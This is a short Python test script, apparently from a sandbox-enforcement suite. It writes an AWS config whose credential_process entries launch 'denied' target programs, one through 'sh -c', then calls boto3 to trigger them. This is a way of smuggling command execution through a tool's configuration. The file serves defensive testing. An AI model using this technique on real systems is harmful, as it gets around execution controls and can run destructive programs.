"""Have the AWS tools start the denied program: credential processes, plugins, aliases and an editor of their configuration."""

# aims: marks
# control: harms
# needs: boto3
# seconds: 20
import os

import boto3
from attack import attempt, target, tried

with open("config", "w") as file:
    file.write(
        f"[default]\ncredential_process = {target['destroyer']}\n[profile x]\ncredential_process = sh -c '{target['swift']}'\n"
    )
for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
    os.environ.pop(name, None)
os.environ |= {"AWS_CONFIG_FILE": "config", "AWS_EC2_METADATA_DISABLED": "true"}
tried()
for profile in ("default", "x"):
    attempt(lambda profile=profile: boto3.Session(profile_name=profile).get_credentials().get_frozen_credentials())
